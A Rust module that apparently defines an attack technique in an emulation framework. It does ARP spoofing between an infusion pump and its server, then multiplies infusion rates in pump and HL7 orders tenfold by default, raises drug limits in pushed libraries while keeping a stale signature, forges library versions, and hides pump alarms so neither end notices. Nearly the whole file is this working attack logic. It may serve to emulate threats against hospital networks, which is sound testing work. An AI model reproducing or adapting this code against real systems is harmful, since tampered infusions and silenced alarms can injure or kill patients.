//! Steps in between a pump and its server, and changes what can be read on the way.

use super::net_notes::Passed;
use super::{Params, Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::time::Duration;
use crate::wire::hl7::Hl7;
use crate::wire::pump::{PumpMessage, SignedLibrary};
use crate::wire::query::Query;
use crate::wire::tls::Tls;
use crate::wire::{Ip, Message, Packet, Segment, Transport};
use std::sync::Arc;

/// Technique `alter-in-transit`.
#[derive(Debug)]
pub(super) struct AlterInTransit;

static ENTRY: Entry = Entry {
    id: "alter-in-transit",
    title: "Change messages on their way",
    summary: "Claims the addresses of a pump and of its server, or of the gateway if the server is elsewhere, by unasked ARP answers, forwards what \
              then passes, keeps what can be read, and changes orders for the pump, the upper limits of a drug in libraries for it, or an alarm of it, \
              of which nothing is left to know it by. With `from` it stands between the server and that system of the house instead. Succeeds when a \
              changed message was forwarded; it then gives the addresses back. It needs a place on the pump's segment where its ARP answers \
              are not dropped, and messages in clear: a sealed one it can forward or lose, a signed library no longer verifies. Its noise is \
              two addresses that are claimed twice.",
    parameters: &[
        Parameter {
            name: "pump",
            kind: ParameterKind::Host,
            required: true,
            doc: "pump whose messages are changed",
        },
        Parameter {
            name: "server",
            kind: ParameterKind::Host,
            required: true,
            doc: "the pump's server",
        },
        Parameter {
            name: "what",
            kind: ParameterKind::Text,
            required: true,
            doc: "`orders`, `libraries`, `alarms`, or `nothing`: only keep what passes",
        },
        Parameter {
            name: "from",
            kind: ParameterKind::Host,
            required: false,
            doc: "the other end, where it is not the pump: the health record that sends its orders, the database that its server reads, the system that alarms go to",
        },
        Parameter {
            name: "factor",
            kind: ParameterKind::Factor,
            required: false,
            doc: "factor on the rate of an order or the upper limits of the drug; x10 if not given",
        },
        Parameter {
            name: "drug",
            kind: ParameterKind::Text,
            required: false,
            doc: "the drug whose limits are changed",
        },
        Parameter {
            name: "version",
            kind: ParameterKind::Integer,
            required: false,
            doc: "version that a changed library from a database claims; its own if not given",
        },
        Parameter {
            name: "over",
            kind: ParameterKind::Duration,
            required: false,
            doc: "how long it stays in between; 30m if not given",
        },
    ],
    references: &["T1557.002", "T1565.002", "T0830", "T0832"],
};

const ANNOUNCE: Duration = Duration::from_secs(2);
const TOKEN_ANNOUNCE: u32 = 1;
const TOKEN_END: u32 = 2;
const QUERY_NEAR: u32 = 11;
const QUERY_SERVER: u32 = 12;
/// Messages that are kept at the most.
const KEPT: usize = 64;

fn over(params: &Params) -> Duration {
    params.duration("over").unwrap_or(Duration::from_mins(30))
}

/// The parameter that names the end opposite to the server.
fn near(params: &Params) -> &'static str {
    if params.text("from").is_empty() {
        "pump"
    } else {
        "from"
    }
}

fn known(step: &Step<'_, '_, '_>, parameter: &str) -> Option<Ip> {
    let host = step.knowledge.addresses.get(step.params.text(parameter))?;
    Some(host.value)
}

/// The other end of the own segment on the way to the server.
fn far_end(step: &Step<'_, '_, '_>) -> Option<Ip> {
    let server = known(step, "server")?;
    if step.hands.on_link(server) {
        Some(server)
    } else {
        step.hands.gateway()
    }
}

/// Asks for what is not known, and steps in between once both addresses are.
fn begin(step: &mut Step<'_, '_, '_>) -> Progress {
    let near = near(step.params);
    let (nearer, server) = (known(step, near), known(step, "server"));
    if nearer.is_none() {
        let name = step.params.text(near).to_owned();
        step.hands.resolve(QUERY_NEAR, &name);
        return Progress::Wait;
    }
    if server.is_none() {
        let name = step.params.text("server").to_owned();
        step.hands.resolve(QUERY_SERVER, &name);
        return Progress::Wait;
    }
    step.hands.intercept(true);
    claim(step)
}

fn claim(step: &mut Step<'_, '_, '_>) -> Progress {
    let near = near(step.params);
    for ip in [known(step, near), far_end(step)].into_iter().flatten() {
        step.hands.announce(ip);
    }
    step.hands.timer(ANNOUNCE, TOKEN_ANNOUNCE);
    Progress::Reached(1)
}

fn leave(step: &mut Step<'_, '_, '_>) {
    let near = near(step.params);
    for ip in [known(step, near), far_end(step)].into_iter().flatten() {
        step.hands.give_back(ip);
    }
    step.hands.intercept(false);
}

/// The message of a packet, to change.
fn carried(packet: &mut Packet) -> Option<&mut Message> {
    match &mut packet.transport {
        Transport::Datagram { message, .. } => Some(message),
        Transport::Stream {
            segment: Segment::Data { message, .. },
            ..
        } => Some(message),
        Transport::Stream { .. } => None,
    }
}

/// Changes a message if it is one to change. Whether it was.
fn alter(params: &Params, message: &mut Message) -> bool {
    let factor = params.factor("factor").unwrap_or(10.0);
    match (params.text("what"), message) {
        ("orders", Message::Pump(m)) => match &mut **m {
            PumpMessage::Order(order) => {
                order.rate_ml_per_h *= factor;
                true
            }
            _ => false,
        },
        ("orders", Message::Hl7(m)) => match &mut m.content {
            Hl7::Order { pump, order } if pump == params.text("pump") => {
                order.rate_ml_per_h *= factor;
                true
            }
            _ => false,
        },
        // What goes on in its place says nothing; the stream's numbers stay right, so neither end misses a message.
        ("alarms", Message::Pump(m)) => {
            let alarm = matches!(**m, PumpMessage::Alarm { .. });
            if alarm {
                let entries = Vec::new();
                **m = PumpMessage::Log { entries };
            }
            alarm
        }
        ("alarms", Message::Hl7(m)) => {
            let Hl7::Alarm { pump, .. } = &mut m.content else {
                return false;
            };
            let alarm = pump == params.text("pump");
            if alarm {
                // Of a pump that nobody has: it is answered as any alarm, so that its sender does not say it again.
                "none".clone_into(pump);
            }
            alarm
        }
        ("libraries", Message::Pump(m)) => match &mut **m {
            PumpMessage::LibraryOffer(offer) => {
                let drug = params.text("drug");
                let library = offer.library.with_limit_scaled(drug, factor);
                *offer = SignedLibrary {
                    library: Arc::new(library),
                    // Whatever signature there was is over the content before.
                    signature: offer.signature,
                };
                true
            }
            _ => false,
        },
        ("libraries", Message::Query(q)) if near(params) == "from" => match &mut **q {
            Query::Library(Some(stored)) => {
                let (drug, version) = (params.text("drug"), params.integer("version"));
                let mut library = stored.library.with_limit_scaled(drug, factor);
                library.version = version
                    .and_then(|v| u32::try_from(v).ok())
                    .unwrap_or(library.version);
                stored.library = Arc::new(library);
                true
            }
            _ => false,
        },
        _ => false,
    }
}

/// Keeps a readable message for later use.
fn keep(step: &mut Step<'_, '_, '_>, packet: &mut Packet) {
    let to = packet.dst;
    let Some(message) = carried(packet) else {
        return;
    };
    let of_use = matches!(
        message,
        Message::Pump(m) if matches!(**m, PumpMessage::Order(_) | PumpMessage::LibraryOffer(_))
    );
    if of_use && step.knowledge.net.passed.len() < KEPT {
        let message = message.clone();
        let taught = step.hands.learned("a message that passed");
        step.knowledge.net.passed.push(Passed {
            to,
            message,
            taught,
        });
    }
}

/// Notes once for each pair of ends that what they say to each other is sealed.
fn note_sealed(step: &mut Step<'_, '_, '_>, packet: &Packet) {
    let (src, dst) = (packet.src, packet.dst);
    let pair = (src.min(dst), src.max(dst));
    let sealed = match &packet.transport {
        Transport::Datagram { message, .. } => Some(&**message),
        Transport::Stream { segment, .. } => segment.message(),
    };
    let sealed =
        sealed.is_some_and(|m| matches!(m, Message::Tls(t) if matches!(**t, Tls::Data(_))));
    if sealed && step.knowledge.net.sealed.insert(pair) {
        step.hands.cannot_read(packet);
    }
}

fn passing(step: &mut Step<'_, '_, '_>, packet: &Packet) -> Progress {
    note_sealed(step, packet);
    let mut packet = packet.clone();
    keep(step, &mut packet);
    let params = step.params;
    let altered = carried(&mut packet).is_some_and(|m| alter(params, m));
    if altered {
        step.hands.forward_altered(packet);
        leave(step);
        return Progress::Done("a changed message went on");
    }
    step.hands.forward(packet);
    if params.text("what") == "nothing" && !step.knowledge.net.passed.is_empty() {
        leave(step);
        return Progress::Done("something to send again");
    }
    Progress::Reached(2)
}

impl Technique for AlterInTransit {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &[
            "find",
            "claim both addresses",
            "packets pass",
            "a change goes on",
        ]
    }

    fn patience(&self, params: &Params) -> Duration {
        over(params) + Duration::from_mins(1)
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                step.hands.timer(over(step.params), TOKEN_END);
                begin(step)
            }
            Input::Socket(SocketEvent::Resolved {
                query,
                ip: Some(ip),
            }) => {
                let name = match *query {
                    QUERY_NEAR => step.params.text(near(step.params)).to_owned(),
                    QUERY_SERVER => step.params.text("server").to_owned(),
                    _ => return Progress::Wait,
                };
                step.found(&name, *ip);
                begin(step)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Timer(TOKEN_ANNOUNCE) => claim(step),
            Input::Timer(TOKEN_END) => {
                leave(step);
                Progress::Failed("nothing that could be changed passed")
            }
            Input::Socket(SocketEvent::Passing(packet)) => passing(step, packet),
            _ => Progress::Wait,
        }
    }
}
